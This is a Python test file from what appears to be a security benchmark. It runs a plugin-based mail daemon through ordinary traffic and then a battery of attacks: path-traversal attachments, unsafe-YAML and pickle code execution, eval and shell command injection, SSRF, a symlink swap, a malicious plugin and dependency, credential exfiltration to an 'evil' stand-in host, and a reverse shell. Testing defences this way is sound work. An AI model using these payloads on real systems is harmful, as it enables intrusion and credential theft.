# SPDX-License-Identifier: Apache-2.0
"""aiosmtpd with filters from distributions, and mailboxes."""
import contextlib
import email.message
import email.policy
import json
import os
import pickle
import smtplib

from attackers import Bomb, CALL_HOME, FORK_AND_EXEC, THEFT
import stage

SPAMWORDS = {"__init__.py": '''"""Spam."""


def rate(text):
    return sum(word.isupper() for word in text.split())
'''}
SPAMWORDS_NEW = {
    "__init__.py": '"""Spam."""\n\n\ndef rate(text):\n'
                   "    from spamwords.lists import words\n"
                   "    return sum(word.isupper() or word in words()\n"
                   "               for word in text.split())\n",
    "lists.py": "import pkgutil\nimport zlib\n\n\ndef words():\n"
                '    text = pkgutil.get_data("spamwords", "words.txt")\n'
                "    zlib.crc32(text)\n"
                "    return text.decode().split()\n",
    "words.txt": "free\nwinner\n"}
STAMPS = {"__init__.py": '''"""Filters."""
import hashlib


def digest(message):
    return hashlib.sha256(message.as_bytes()).hexdigest()


def length(message):
    return str(len(message.as_bytes()))
'''}
POINTS = "[maild.filters]\ndigest = stamps:digest\nlength = stamps:length\n"


class MailDaemon(stage.Service):
    """A daemon with plugins that takes mail and keeps it (aiosmtpd)."""
    packages = ["python3-aiosmtpd", "python3-yaml", "file"]
    MEMBERS = ["anna", "ben", "carla", "dora", "hans.peter", "o'brien",
               "zoe-1"]

    def arrange(self):
        self.install("spamwords", "3.0", SPAMWORDS)
        self.install("stamps", "1.0", STAMPS, POINTS)
        stage.write(self.srv / "members.txt", "\n".join(self.MEMBERS[:4]))
        for name in ("away.txt", "thanks.txt", "busy.txt"):
            stage.write(self.srv / "answers" / name, "Later.\n")
        self.rules("anna", answer="away.txt", score="len(SUBJECT)",
                   folders={"ben@here": "family", "shop@there": "orders"})
        self.rules("ben", answer="thanks.txt", hook=self.hook())
        self.rules("dora", answer="busy.txt")

    def arrange_benign(self):
        self.install("spamwords", "3.1", SPAMWORDS_NEW)
        stage.write(self.srv / "members.txt", "\n".join(self.MEMBERS))
        stage.write(self.srv / "answers/2026 holidays.txt", "Away.\n")

    def hook(self):
        return f"http://127.0.0.1:{self.port('pager')}/mail"

    def rules(self, name, **more):
        stage.write(self.srv / "rules" / f"{name}.yaml", json.dumps(more))

    def command(self):
        return [self.python, "maild.py", self.port("web")]

    # ------------------------------------------------------------ ordinary use
    def send(self, to, subject="Hello", sender="ben@here", text="Hi there.\n",
             files=(), **headers):
        """What the server says: a status, 0 when it does not answer."""
        self.site("pager").page("*", "noted")
        message = email.message.EmailMessage()
        message["From"], message["To"] = sender, to
        message["Subject"] = subject
        for name, value in headers.items():
            message[name.replace("_", "-")] = value
        message.set_content(text)
        for name, data in files:
            message.add_attachment(data, maintype="application",
                                   subtype="octet-stream", filename=name)
        return self.passes(sender, to, message.as_bytes(
            policy=email.policy.SMTP))

    def passes(self, sender, to, data):
        try:
            with smtplib.SMTP("127.0.0.1", self.port("web"),
                              timeout=15) as client:
                client.ehlo("test")
                client.mail(sender)
                status = client.rcpt(to)[0]
                return client.data(data)[0] if status == 250 else status
        except smtplib.SMTPResponseException as error:
            return error.smtp_code
        except (OSError, smtplib.SMTPException):
            return 0

    def expect_sent(self, to, status=250, **more):
        self.expect(f"mail to {to}", (got := self.send(to, **more))
                    == status, got)

    def expect_kept(self, place):
        self.expect(f"{place} kept", list(self.srv.glob(place)))

    def train(self, day):
        self.expect_sent("anna@here")
        self.expect_sent("anna@here", sender="shop@there",
                         subject=f"Order {day}",
                         files=[("invoice.pdf", b"%PDF" * 20)])
        self.expect_sent("ben@here", sender="carla@here", subject="FREE tea",
                         files=[(f"photo {day}.jpg", b"\xff\xd8" * 30),
                                ("notes.txt", b"text\n")])
        self.expect_sent("dora@here", subject="Are you there?")
        self.expect_sent("carla@here", sender="x@elsewhere", subject="",
                         files=[("list.csv", b"a,b\n")])
        self.expect_sent("anna+garden@here", text=f"Day {day}: roses.\n")
        self.expect_sent("ben+chess@here", text=f"Move {day}.\n")
        self.expect_sent("carla+day.1@here", text=f"Move {day}.\n")
        self.expect_sent("nobody@here", status=550)
        self.expect_kept("mail/anna/family/new/*")
        self.expect_kept("topics/anna/garden.txt")

    def benign(self):
        self.rules("hans.peter", answer="2026 holidays.txt",
                   hook=self.hook(), folders={"zoe@there": "Sommer 2026"})
        self.rules("anna", answer="thanks.txt", score="len(SUBJECT) * 2",
                   folders={"zoe@there": "travel"})
        for name in ("hans.peter", "o'brien", "zoe-1", "anna", "carla"):
            self.expect_sent(f"{name}@here", sender="zoe@there",
                             subject="Größe & Maß (2026-11-21)", files=[
                                 ("Ünï & code (1).webp", b"RIFF" * 9),
                                 ("v1.2.tar.gz", b"\x1f\x8b"),
                                 ("4711", b"x")])
            if "'" not in name:  # the shell line is not made for these
                self.expect_sent(f"{name}+v1.2-plan@here", text="Plan.\n")
        self.expect_sent("zoe-1@here", subject="Big", text="long\n" * 20000)
        self.expect_sent("zoe-1@here", subject="Again", In_Reply_To="<1@x>",
                         text="Straße\n")
        self.expect("odd mail", self.passes(
            "x@y", "ben@here", b"no headers at all\r\n") == 250)
        self.expect("broken mail", self.passes(
            "x@y", "ben+odd@here", b"Content-Type: multipart/mixed\r\n\r\nx\r\n")
            == 451)
        self.expect_sent("nobody@here", status=550)
        self.expect_kept("mail/hans.peter/Sommer 2026/new/*")
        self.expect_kept("attachments/o'brien/Ünï & code (1).webp")

    def health(self):
        self.expect_sent("carla@here", sender="ben@here",
                         files=[("list.csv", b"a,b\n")])
        self.expect_kept("mail/carla/new/*")

    # ----------------------------------------------------------------- attacks
    def restart(self):
        self.halt()
        self.start()

    def loads(self, text):
        """Somebody may edit rules; mail comes in."""
        stage.write(self.srv / "rules/carla.yaml", text)
        self.send("carla@here")
        (self.srv / "rules/carla.yaml").unlink()

    def rates(self, code):
        """A subject that leaves the string it stands in."""
        self.send("anna@here", subject=f"'+str({code})+'")

    def answered(self, text):
        return any(text in path.read_text(errors="replace")
                   for path in (self.srv / "outgoing").glob("*.eml"))

    def answers_with(self, name):
        self.rules("carla", answer=name)
        self.send("carla@here")
        (self.srv / "rules/carla.yaml").unlink()

    @stage.attack("traversal")
    def attachment_is_a_key(self):
        self.send("carla@here", files=[
            ("../../../home/.ssh/authorized_keys", b"planted")])
        return (self.home / ".ssh/authorized_keys").exists()

    @stage.attack("write to start-up file", fresh=True)
    def attachment_is_a_pth_file(self):
        self.send("carla@here", files=[
            (f"{self.site_packages}/x.pth", b"import os\n")])
        return (self.site_packages / "x.pth").exists()

    @stage.attack("write to code", fresh=True)
    def attachment_is_a_module(self):
        self.send("carla@here", files=[
            ("../../sitecustomize.py", b"planted = 1\n")])
        return (self.srv / "sitecustomize.py").exists()

    @stage.attack("write to code", fresh=True)
    def attachment_is_another_members_rules(self):
        marker = self.marker("rules")
        self.send("carla@here", files=[("../../rules/ben.yaml", (
            f"!!python/object/apply:os.system ['id > {marker}']\n").encode())])
        self.send("ben@here")
        return marker.exists()

    @stage.attack("secret disclosure")
    def answer_is_a_password_file(self):
        self.answers_with("../../home/.netrc")
        return self.answered(stage.SECRET)

    @stage.attack("source disclosure")
    def answer_is_the_source(self):
        self.answers_with("../maild.py")
        return self.answered("HOLE")

    @stage.attack("traversal")
    def answer_is_the_payroll(self):
        self.answers_with(f"{self.place}/payroll/2026.csv")
        return self.answered(stage.SECRET)

    @stage.attack("command injection")
    def topic_runs_a_command(self):
        self.send("anna+x'`touch${IFS}planted`'@here")
        return (self.srv / "planted").exists()

    @stage.attack("traversal")
    def topic_is_a_file_of_the_home(self):
        (self.srv / "topics/anna").mkdir(parents=True, exist_ok=True)
        self.passes("x@y", '"anna+../../../home/planted"@here',
                    b"Subject: x\r\n\r\nplanted\r\n")
        return bool(list(self.home.glob("planted*")))

    @stage.attack("eval injection")
    def subject_runs_a_command(self):
        marker = self.marker("subject")
        self.rates(f"__import__('os').system('id > {marker}')")
        return marker.exists()

    @stage.attack("ctypes")
    def subject_calls_libc(self):
        marker = self.marker("ctypes")
        self.rates("__import__('ctypes').CDLL(None).system("
                   f"b'id > {marker}')")
        return marker.exists()

    @stage.attack("exfiltration")
    def rules_send_credentials(self):
        evil = self.site("evil")
        evil.page("*", b"")
        self.loads("!!python/object/apply:exec\n- " + json.dumps(
            THEFT.format(url=evil.url, file="~/.aws/credentials")))
        return evil.heard(stage.SECRET)

    @stage.attack("unsafe yaml")
    def rules_run_a_command(self):
        marker = self.marker("yaml")
        self.loads(f"!!python/object/apply:os.system ['id > {marker}']\n")
        return marker.exists()

    @stage.attack("reverse shell")
    def rules_call_home(self):
        with self.listener() as attacker:
            self.loads("!!python/object/apply:exec\n- " + json.dumps(
                CALL_HOME.format(port=self.port("shell"))))
            return self.happens(lambda: b"got-42" in attacker.heard)

    @stage.attack("fork+exec")
    def rules_fork_and_exec(self):
        marker = self.marker("fork")
        self.loads("!!python/object/apply:exec\n- " + json.dumps(
            FORK_AND_EXEC.format(line=f"id > {marker}")))
        return self.happens(marker.exists)

    @stage.attack("SSRF")
    def hook_is_an_internal_service(self):
        inside = self.site("internal")
        inside.page("*", b"")
        self.loads(json.dumps({"hook": inside.url + "/admin"}))
        return bool(inside.requests)

    @stage.attack("argument injection", fresh=True)
    def rules_name_a_folder_elsewhere(self):
        self.loads(json.dumps({"folders": {
            "ben@here": "../../../home/planted"}}))
        return (self.home / "planted/new").exists()

    @stage.attack("unsafe pickle", fresh=True)
    def words_run_a_command(self):
        marker = self.marker("words")
        self.halt()
        stage.write(self.srv / "words.db",
                    pickle.dumps(Bomb(os.system, f"id > {marker}")))
        with contextlib.suppress(stage.Broken):
            self.start()
        (self.srv / "words.db").unlink(missing_ok=True)
        self.restart()
        return marker.exists()

    @stage.attack("symlink swap", fresh=True)
    def topic_became_a_link(self):
        self.send("anna+garden@here")
        path = self.srv / "topics/anna/garden.txt"
        path.parent.mkdir(parents=True, exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(self.home / ".bashrc")
        self.send("anna+garden@here", text="planted\n")
        return "planted" in (self.home / ".bashrc").read_text()

    @stage.attack("malicious plugin", fresh=True)
    def filter_runs_a_command(self):
        marker = self.marker("filter")
        self.halt()
        self.install("brooms", "1.0", {"__init__.py":
                     "import os\n\n\ndef sweep(message):\n"
                     f"    os.system('id > {marker}')\n    return 'clean'\n"},
                     "[maild.filters]\nsweep = brooms:sweep\n")
        with contextlib.suppress(stage.Broken):
            self.start()
        self.send("carla@here")
        is_there = marker.exists()
        self.install("brooms", "1.0", {})  # no filter any more
        self.restart()
        return is_there

    @stage.attack("malicious dependency", fresh=True)
    def spamwords_steal_credentials(self):
        evil = self.site("evil")
        evil.page("*", b"")
        self.halt()
        self.install("spamwords", "3.0.1", {"__init__.py": THEFT.format(
            url=evil.url, file="~/.aws/credentials")
            + SPAMWORDS["__init__.py"]})
        self.start()
        return evil.heard(stage.SECRET)
